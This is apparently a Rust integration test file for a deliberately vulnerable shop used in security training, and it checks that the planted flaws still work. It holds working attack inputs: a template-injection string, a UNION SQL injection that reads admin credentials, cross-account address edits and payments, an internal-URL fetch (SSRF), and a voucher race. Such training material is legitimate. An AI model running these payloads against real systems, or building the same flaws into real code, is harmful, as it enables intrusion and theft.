//! The lab's intended weaknesses stay exploitable.
//!
//! Each test drives one weakness end to end the way a student would.

use hackshop_integration_tests::{
    admin_client, balance, base_url, first_product_id, fresh_shopper, generate_voucher,
    shopper_client,
};
use reqwest::{Client, StatusCode};
use tokio::task::JoinSet;
use serde_json::{Value, json};

async fn place_order(client: &Client) -> String {
    let goods_id = first_product_id(client).await;
    client
        .post(format!("{}/order/cart/add", base_url()))
        .json(&json!({ "goods_id": goods_id, "quantity": 1 }))
        .send()
        .await
        .expect("Failed to add to cart");

    let html = client
        .get(format!("{}/order/cart", base_url()))
        .send()
        .await
        .expect("Failed to get cart")
        .text()
        .await
        .expect("Failed to read cart");
    let item_id: i32 = html
        .split("data-item-id=\"")
        .nth(1)
        .and_then(|rest| rest.split('"').next())
        .and_then(|id| id.parse().ok())
        .expect("No cart row on the page");

    let body: Value = client
        .post(format!("{}/order/cart/checkout", base_url()))
        .json(&json!({ "item_ids": [item_id] }))
        .send()
        .await
        .expect("Failed to check out")
        .json()
        .await
        .expect("Reply is not JSON");
    body["order_id"]
        .as_str()
        .map(str::to_string)
        .expect("No order id")
}

#[tokio::test]
#[ignore = "Requires running server and database"]
async fn test_order_detail_evaluates_username_as_template() {
    let client = shopper_client().await;
    let order_id = place_order(&client).await;

    let html = client
        .get(format!("{}/user/order/{order_id}", base_url()))
        .query(&[("username", "{{ 7 * 7 }}")])
        .send()
        .await
        .expect("Failed to get order detail")
        .text()
        .await
        .expect("Failed to read order detail");

    assert!(html.contains("Hello, 49"));
}

#[tokio::test]
#[ignore = "Requires running server and database"]
async fn test_order_detail_union_reads_admin_table() {
    let client = shopper_client().await;
    let payload = "x' UNION SELECT 'x','n','2026-01-01','0',NULL,NULL,NULL,NULL,\
                   username,password,'1' FROM admins-- ";

    let resp = client
        .get(format!(
            "{}/user/order/{}",
            base_url(),
            payload.replace(' ', "%20").replace('\'', "%27")
        ))
        .send()
        .await
        .expect("Failed to get order detail");

    assert_eq!(resp.status(), StatusCode::OK);
    let html = resp.text().await.expect("Failed to read order detail");
    assert!(html.contains("admin"));
    assert!(html.contains("admin123"));
}

#[tokio::test]
#[ignore = "Requires running server and database"]
async fn test_any_shopper_can_edit_another_address() {
    let owner = fresh_shopper().await;
    owner
        .post(format!("{}/user/address/add", base_url()))
        .form(&[
            ("receiver", "Owner"),
            ("phone", "13800000000"),
            ("addressname", "1 Original Road"),
        ])
        .send()
        .await
        .expect("Failed to add address");

    let list: Value = owner
        .get(format!("{}/user/address/list", base_url()))
        .send()
        .await
        .expect("Failed to list addresses")
        .json()
        .await
        .expect("Reply is not JSON");
    let address_id = list["addresses"][0]["id"].as_i64().expect("No address id");

    let intruder = fresh_shopper().await;
    intruder
        .post(format!("{}/user/address/edit/{address_id}", base_url()))
        .form(&[
            ("receiver", "Intruder"),
            ("phone", "13900000000"),
            ("addressname", "2 Changed Road"),
        ])
        .send()
        .await
        .expect("Failed to edit address");

    let list: Value = owner
        .get(format!("{}/user/address/list", base_url()))
        .send()
        .await
        .expect("Failed to list addresses")
        .json()
        .await
        .expect("Reply is not JSON");
    assert_eq!(list["addresses"][0]["receiver"], "Intruder");
}

#[tokio::test]
#[ignore = "Requires running server and database"]
async fn test_payment_charges_whoever_submits() {
    let buyer = fresh_shopper().await;
    let order_id = place_order(&buyer).await;

    // The seeded shopper pays a stranger's order from their own wallet.
    let payer = shopper_client().await;
    let resp = payer
        .post(format!("{}/order/check/{order_id}", base_url()))
        .form(&[("payment_method", "balance")])
        .send()
        .await
        .expect("Failed to pay");

    assert_eq!(resp.status(), StatusCode::OK);
}

#[tokio::test]
#[ignore = "Requires running server and database"]
async fn test_batch_import_fetches_internal_urls() {
    let resp = admin_client()
        .await
        .post(format!("{}/admin/products/batch/import", base_url()))
        .form(&[("url", format!("{}/health", base_url()))])
        .send()
        .await
        .expect("Failed to post import");

    assert_eq!(resp.status(), StatusCode::BAD_REQUEST);
    let body: Value = resp.json().await.expect("Reply is not JSON");
    assert_eq!(body["preview"], "ok");
}

#[tokio::test]
#[ignore = "Requires running server and database"]
async fn test_concurrent_redeems_credit_once_per_success() {
    let admin = admin_client().await;
    let code = generate_voucher(&admin, "10.00").await;
    let shopper = fresh_shopper().await;

    let mut redeems = JoinSet::new();
    for _ in 0..8 {
        let shopper = shopper.clone();
        let code = code.clone();
        redeems.spawn(async move {
            shopper
                .post(format!("{}/user/voucher/redeem", base_url()))
                .form(&[("code", code)])
                .send()
                .await
                .expect("Failed to redeem")
                .status()
        });
    }

    let mut successes = 0u32;
    while let Some(status) = redeems.join_next().await {
        let status = status.expect("Redeem task panicked");
        if status == StatusCode::OK {
            successes += 1;
        } else {
            assert_eq!(status, StatusCode::CONFLICT);
        }
    }

    // Racing requests may each pass the status check; every pass is credited.
    assert!(successes >= 1);
    assert_eq!(balance(&shopper).await, format!("{}.00", successes * 10));
}
